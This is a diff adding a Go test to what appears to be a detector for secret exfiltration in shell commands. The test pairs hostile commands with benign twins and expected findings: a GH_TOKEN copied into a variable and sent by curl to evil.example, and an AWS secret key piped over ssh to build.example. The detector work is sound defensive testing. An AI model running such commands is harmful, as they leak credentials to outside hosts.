@@ -59,3 +59,14 @@ func TestSecretCopiedIntoFile(t *testing.T) {
 			want: "from secret GH_TOKEN) to h.example"},
 	})
 }
+
+// A copied secret on a command's input is named by its secret too.
+func TestSecretCopiedOntoInput(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "a here-string of a copy", shell: "bash", hostile: `x=$GH_TOKEN; curl -d @- https://evil.example <<<"$x"`,
+			want:   "sends its input, secret data (from gh (GH_TOKEN, copied into $x)), to evil.example",
+			benign: `x=hello; grep -c l <<<"$x"`},
+		{name: "ssh's input", shell: "bash", hostile: `x=$AWS_SECRET_ACCESS_KEY; ssh build.example 'cat > k' <<<"$x"`,
+			want: "(from aws (AWS_SECRET_ACCESS_KEY, copied into $x)), to build.example"},
+	})
+}
